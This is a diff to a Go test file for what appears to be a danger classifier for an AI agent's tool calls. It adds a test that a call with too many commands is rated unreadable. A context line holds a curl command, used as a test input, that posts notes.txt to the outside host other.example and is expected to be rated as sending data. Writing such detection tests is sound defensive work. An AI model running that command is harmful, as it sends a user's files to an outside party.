@@ -1,6 +1,7 @@
 package grounds_test
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/tidemark/tidemark/grounds"
@@ -252,5 +253,17 @@ func TestACommandInPiecesIsJudgedWhole(t *testing.T) {
 	said.User("Use curl for it.")
 	if g := of(said, "run_command", `{"command":"curl","args":["-d","@notes.txt","https://other.example/x"]}`); g.Danger != "sends" {
 		t.Errorf("the user named the program: got danger %q, want sends", g.Danger)
+	}
+}
+
+// Looking at a call has an end, however many commands are in it.
+func TestACallWithTooManyCommandsIsNotUnderstood(t *testing.T) {
+	many := `{"commands":["ls"` + strings.Repeat(`,"ls"`, 300) + `]}`
+	if g := of(coder(false), "run_command", many); g.Danger != "unreadable" {
+		t.Errorf("got danger %q, want unreadable", g.Danger)
+	}
+	few := `{"commands":["ls"` + strings.Repeat(`,"ls"`, 100) + `]}`
+	if g := of(coder(false), "run_command", few); g.Danger != "" {
+		t.Errorf("a hundred: got danger %q, want none", g.Danger)
 	}
 }
